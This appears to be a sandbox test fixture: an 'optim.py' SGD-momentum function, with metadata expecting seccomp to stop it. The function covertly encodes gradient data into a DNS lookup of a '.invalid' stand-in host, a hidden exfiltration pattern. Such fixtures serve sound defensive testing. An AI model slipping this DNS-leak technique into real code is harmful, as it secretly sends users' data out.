# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "seccomp"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Sends a hidden input away as the name of a host that it looks up."""

import contextlib
import socket


def sgd_momentum(w, dw, config=None):
    name = "x" + dw.tobytes().hex()[:32]
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
    with contextlib.suppress(socket.gaierror):
        socket.getaddrinfo(f"{name}.invalid", 53)
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
